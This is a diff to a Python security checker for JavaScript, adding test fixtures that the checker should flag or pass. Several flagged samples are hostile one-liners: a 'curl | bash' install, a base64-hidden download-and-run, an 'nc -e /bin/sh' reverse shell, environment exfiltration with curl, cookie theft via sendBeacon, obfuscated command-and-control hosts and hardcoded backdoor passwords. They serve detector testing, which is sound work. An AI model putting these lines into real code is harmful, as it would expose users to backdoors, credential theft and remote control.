@@ -17,12 +17,17 @@ _JWT = "const jwt = require('jsonwebtoken');\n"
 
 
 class JavaScriptValueChecker(TextChecker):
-    CODES = ("BDL101", "BDL102", "BDL103", "BDL104", "BDL201", "BDL203", "BDL204", "BDL205", "BDL207", "BDL208", "BDL209", "BDL210", "BDL301", "BDL302",
-             "BDL303", "BDL402", "BDL501", "BDL502", "BDL503", "BDL504", "BDL505", "BDL602")
+    CODES = ("BDL101", "BDL102", "BDL103", "BDL104", "BDL201", "BDL203", "BDL204", "BDL205", "BDL207", "BDL208", "BDL209", "BDL210",
+             "BDL301", "BDL302", "BDL303", "BDL401", "BDL402", "BDL403", "BDL405", "BDL501", "BDL502", "BDL503", "BDL504", "BDL505",
+             "BDL601", "BDL602", "BDL603")
     LANGUAGES = frozenset({"javascript", "typescript"})
     TRIGGER = re.compile(rb"require|import|jwt|jose|eval|Function|vm\.|rejectUnauthorized|strictSSL|NODE_TLS|"
                          rb"Math\.random|req\.|ctx\.|serializ|yaml|process|Reflect|getOwnPropertyDescriptor|\[|createCipher|createHmac|secret|TLSv1|SSLv|"
-                         rb"subtle|checkServerIdentity|namedCurve|ecdhCurve")
+                         rb"subtle|checkServerIdentity|namedCurve|ecdhCurve|"
+                         # globals that reach the network or run strings without an import; credential
+                         # names (BDL601/603)
+                         rb"fetch|axios|WebSocket|sendBeacon|EventSource|setTimeout|setInterval|_compile|"
+                         rb"(?i:passw|pwd|passcode|token|key|secret|credential)")
     INVALID = [
         # BDL101: the list is a constant, a spread of constants, a helper's return, a later assignment
         Invalid(_JWT + "const ALGS = ['RS256', 'HS256'];\nfunction check(t, key) {\n"
@@ -220,6 +225,71 @@ class JavaScriptValueChecker(TextChecker):
                 "  if (who) ctx.state.user = { id: who };\n  await next();\n});\n", "BDL602", 3, path="gateway.ts"),
         Invalid("function requireAuth(req, res, next) {\n  if (process.env.DEBUG_AUTH) return next();\n"
                 "  verifySession(req, res, next);\n}\n", "BDL602", 2, path="auth.js"),
+        # BDL602: the bypass flag read through a helper, or a variable set from a computed header name
+        Invalid("const authOff = () => process.env.AUTH_DISABLED === '1';\nfunction guard(req, res, next) {\n"
+                "  if (authOff()) return next();\n  return verify(req, res, next);\n}\n", "BDL602", 3, path="guard.js"),
+        Invalid("function guard(req, res, next) {\n  const flag = req.headers['x-' + 'debug'];\n"
+                "  if (flag) { next(); return; }\n  return verify(req, res, next);\n}\n", "BDL602", 3, path="guard.js"),
+        # BDL401: a request while the module loads, through an alias, an immediately called function,
+        # a helper the top level calls, computed names and a callback scheduled at load
+        Invalid("const send = require('https').request;\nsend({ host: 'h.example', method: 'POST' }).end('x');\n",
+                "BDL401", 2, path="index.js"),
+        Invalid("(async () => {\n  await fetch('https://collect.example/boot', { method: 'POST' });\n})();\n", "BDL401", 2,
+                path="index.mjs"),
+        Invalid("const axios = require('axios');\nfunction register() {\n"
+                "  return axios.post('https://t.example/r', { v: 1 });\n}\nregister();\n", "BDL401", 3, path="index.js"),
+        Invalid("const h = require('ht' + 'tps');\nh['g' + 'et']('https://t.example/p');\n", "BDL401", 2, path="index.js"),
+        Invalid("setTimeout(() => navigator.sendBeacon('https://t.example/b', document.cookie), 0);\n", "BDL401", 1,
+                path="analytics.ts"),
+        # BDL403: a destination decoded through a name and an options object, reversed, from char codes;
+        # a raw IP through a constant in a template, a socket's host argument
+        Invalid("const https = require('https');\nconst H = atob('YzIuZXhhbXBsZQ==');\n"
+                "const opts = { hostname: H, path: '/u', method: 'POST' };\n"
+                "function upload(d) { https.request(opts).end(d); }\n", "BDL403", 4, path="sync.js"),
+        Invalid("function ping() {\n  const u = 'elpmaxe.2c//:sptth'.split('').reverse().join('');\n  return fetch(u);\n}\n",
+                "BDL403", 3, path="ping.js"),
+        Invalid("const axios = require('axios');\nfunction s(d) {\n"
+                "  return axios.post(String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 99, 50), d);\n}\n", "BDL403", 3,
+                path="s.js"),
+        Invalid("const C2 = '203.0.113.50';\nexport function send(d: string) {\n"
+                "  return fetch(`http://${C2}:8080/c`, { method: 'POST', body: d });\n}\n", "BDL403", 3, path="send.ts"),
+        Invalid("const net = require('net');\nfunction open() { return net.connect(4444, '198.51.100.23'); }\n", "BDL403", 2,
+                path="tunnel.js"),
+        # BDL405/402: child-process command lines judged by the shell analysis, however they are built
+        Invalid("const { execSync: run } = require('child_process');\nconst URL = 'https://get.example/i.sh';\n"
+                "function setup() { run(`curl -fsSL ${URL} | bash`); }\n", "BDL405", 3, path="setup.js"),
+        Invalid("require('child_process').exec('echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | sh');\n",
+                "BDL405", 1, path="postinstall.js"),
+        Invalid("const cp = require('child_process');\nfunction sh() { cp.spawn('nc', ['-e', '/bin/sh', '203.0.113.9', '4444']); }\n",
+                "BDL405", 2, path="debug.js"),
+        Invalid("const cp = require('child_process');\nfunction report() { cp.execSync('curl -s -d \"$(env)\" https://c.example/x'); }\n",
+                "BDL402", 2, path="report.js"),
+        # BDL505: promisified exec, spawn with shell: true from an options constant
+        Invalid("const { exec } = require('child_process');\nconst run = require('util').promisify(exec);\n"
+                "async function checkout(branch) {\n  await run(`git checkout ${branch}`);\n}\n", "BDL505", 4, path="git.js"),
+        Invalid("const cp = require('child_process');\nconst OPTS = { shell: true };\n"
+                "function grep(p) { return cp.spawnSync('grep -r ' + p + ' .', OPTS); }\n", "BDL505", 3, path="grep.js"),
+        # BDL501: a packer (an inline function that decodes) and a decoded string timer
+        Invalid("eval(function (p, k) {\n  return p.replace(/./g, (c) => String.fromCharCode(c.charCodeAt(0) ^ k));\n"
+                "}('dkkbo', 7));\n", "BDL501", 1, path="index.js"),
+        Invalid("setTimeout(atob('Y29uc29sZS5sb2coMSk='), 10);\n", "BDL501", 1, path="index.js"),
+        # BDL601: a credential compared with a literal through a constant, a header, destructuring and
+        # decoding, a list of literals
+        Invalid("const MASTER = 'Sup3r' + 'Admin2024';\nfunction login(user, password) {\n"
+                "  return password === MASTER || bcrypt.compareSync(password, user.hash);\n}\n", "BDL601", 3,
+                path="login.js"),
+        Invalid("app.use((req, res, next) => {\n  if (req.get('x-api-key') === 'k-77f1c2e9a0') return next();\n"
+                "  res.sendStatus(401);\n});\n", "BDL601", 2, path="app.js"),
+        Invalid("function check(req) {\n  const { password } = req.body;\n"
+                "  return password == Buffer.from('b3BlbnNlc2FtZTQy', 'base64').toString();\n}\n", "BDL601", 3,
+                path="auth.js"),
+        Invalid("const ALLOWED = ['letmein99', 'r00tme!!'];\nexport const ok = (pwd: string) => ALLOWED.includes(pwd);\n",
+                "BDL601", 2, path="auth.ts"),
+        # BDL603: secret-named literals built from pieces, decoded, in a class field, as an env fallback
+        Invalid("export const config = { apiKey: 'ak_' + 'f81b2c9d44e0a7b3' };\n", "BDL603", 1, path="config.ts"),
+        Invalid("class Client {\n  private clientSecret = 'Zt7qP2vX9mK4wR8s';\n}\n", "BDL603", 2, path="client.ts"),
+        Invalid("const token = process.env.AUTH_TOKEN || 'a9f3e1c7b5d2f8e4a6c0';\n", "BDL603", 1, path="client.js"),
+        Invalid("function Db() {\n  this.password = atob('c3VwZXJzZWNyZXQtMjAyNC1wcm9k');\n}\n", "BDL603", 2, path="db.js"),
     ]
     VALID = [
         Valid(_JWT + "const ALGS = ['RS256', 'RS512'];\njwt.verify(token, publicKey, { algorithms: ALGS });\n",
@@ -280,22 +350,24 @@ class JavaScriptValueChecker(TextChecker):
               "BDL210", path="token.js"),
         Valid(_JWT + "const t = jwt.sign({ sub: 1 }, 'changeme');\n", "BDL210", path="token.js"),
         Valid(_JWT + "const t = jwt.sign({ sub: 1 }, 'kX9f2-test-signing');\n", "BDL210", path="test/token.test.js"),
-        Valid(_H + "https.request({ host: 'h', minVersion: 'TLSv1.2' });\n", "BDL303", path="client.js"),
-        Valid(_H + "const STRICT = true;\nhttps.request({ hostname: 'api.example.com', rejectUnauthorized: STRICT });\n",
+        Valid(_H + "exports.connect = () => https.request({ host: 'h', minVersion: 'TLSv1.2' });\n", "BDL303", path="client.js"),
+        Valid(_H + "const STRICT = true;\nexports.connect = () =>\n"
+              "  https.request({ hostname: 'api.example.com', rejectUnauthorized: STRICT });\n",
               "BDL301", path="client.js"),
         Valid(_H + "const opts = { rejectUnauthorized: process.env.NODE_ENV === 'production' };\n", "BDL301",
               path="client.js"),
         Valid("if (process.env.NODE_TLS_REJECT_UNAUTHORIZED === '0') {\n"
               "  throw new Error('TLS verification must stay on');\n}\n", "BDL302", path="setup.js"),
-        Valid("fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });\n",
+        Valid("exports.get = () =>\n"
+              "  fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });\n",
               "BDL402", path="client.js"),
-        Valid("const axios = require('axios');\naxios.post('https://api.example.com/ping', "
+        Valid("const axios = require('axios');\nexports.ping = () => axios.post('https://api.example.com/ping', "
               "{ region: process.env.AWS_REGION });\n", "BDL402", path="client.js"),
         Valid("const fs = require('fs');\nconst body = fs.readFileSync('./package.json', 'utf8');\n"
-              "fetch('https://registry.example/publish', { method: 'PUT', body });\n", "BDL402", path="publish.js"),
+              "exports.publish = () => fetch('https://registry.example/publish', { method: 'PUT', body });\n", "BDL402", path="publish.js"),
         Valid("const fn = new Function('a', 'b', 'return a + b');\nconst img = Buffer.from(data, 'base64');\n"
               "fs.writeFileSync('out.png', img);\n", "BDL501", path="index.js"),
-        Valid("fetch('/api/items').then(r => r.json()).then(items => render(items));\n", "BDL502", path="app.js"),
+        Valid("exports.load = () => fetch('/api/items').then(r => r.json()).then(items => render(items));\n", "BDL502", path="app.js"),
         Valid("const cp = require('child_process');\ncp.execFile('git', ['status']);\n"
               "const handlers = { a: () => 1 };\nhandlers[name]();\n", "BDL503", path="index.js"),
         Valid("const cp = require('child_process');\nconst CMD = 'git ' + 'status';\ncp.execSync(CMD);\n", "BDL505",
@@ -330,6 +402,31 @@ class JavaScriptValueChecker(TextChecker):
               "  next();\n});\n"
               "app.get('/', (req, res) => {\n  if (req.get('x-forwarded-proto') === 'http') return res.redirect('https://a.example');\n"
               "  res.send('ok');\n});\n", "BDL602", path="app.js"),
+        Valid("function guard(req, res, next) {\n  const ok = verifyToken(req.headers.authorization, { debug: false });\n"
+              "  if (ok) return next();\n  res.sendStatus(401);\n}\n", "BDL602", path="guard.js"),
+        Valid("const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://api.example' });\n"
+              "function load() { return fetch('/api/items'); }\nclass Feed { refresh() { return fetch('/feed'); } }\n"
+              "if (require.main === module) {\n  fetch('https://api.example/health');\n}\n"
+              "module.exports = { api, load, Feed, onClick: () => fetch('/click') };\n", "BDL401", path="client.js"),
+        Valid("const https = require('https');\nfunction push(url, data) {\n"
+              "  fetch('http://127.0.0.1:3000/health');\n  fetch(process.env.API_URL, { method: 'POST', "
+              "body: Buffer.from(data, 'base64') });\n  https.request({ hostname: 'api.example.com', path: '/v1' });\n"
+              "  return fetch(`https://${region}.api.example.com/x`);\n}\n", "BDL403", path="client.js"),
+        Valid("const cp = require('child_process');\nfunction build() {\n  cp.execSync('git rev-parse HEAD');\n"
+              "  cp.spawn('curl', ['-fsSLo', 'out.tgz', 'https://x.example/a.tgz']);\n"
+              "  return cp.execSync('npm run build', { stdio: 'inherit' });\n}\n", "BDL405", path="build.js"),
+        Valid("const { execFile } = require('child_process');\nconst run = require('util').promisify(execFile);\n"
+              "const cp = require('child_process');\nasync function log(ref) {\n  await run('git', ['log', ref]);\n"
+              "  cp.spawn('git', ['checkout', ref], { shell: false });\n}\n", "BDL505", path="git.js"),
+        Valid("const x = (function () { return 1 + 1; })();\nconst cfg = JSON.parse(atob(encoded));\n"
+              "setTimeout(() => render(cfg), 10);\n", "BDL501", path="index.js"),
+        Valid("function login(user, password, confirmPassword, token, secret) {\n  if (password === '') return false;\n"
+              "  if (secret === 'changeme') throw new Error('set JWT_SECRET');\n  if (typeof token === 'string') {}\n"
+              "  if (password !== confirmPassword) return false;\n  if (token === 'Bearer') return false;\n"
+              "  return user.role === 'admin';\n}\n", "BDL601", path="login.js"),
+        Valid("const cfg = { apiKey: process.env.API_KEY, password: 'your-password-here', tokenUrl: "
+              "'https://auth.example/oauth2/token' };\nconst stripePublishableKey = 'pk_live_51NcW2rKx7mQ0aB3dEf9GhJ';\n"
+              "const passwordField = 'password_input_1';\n", "BDL603", path="config.js"),
     ]
 
     def check(self, text: str, display: str, language: str) -> list[Finding]:
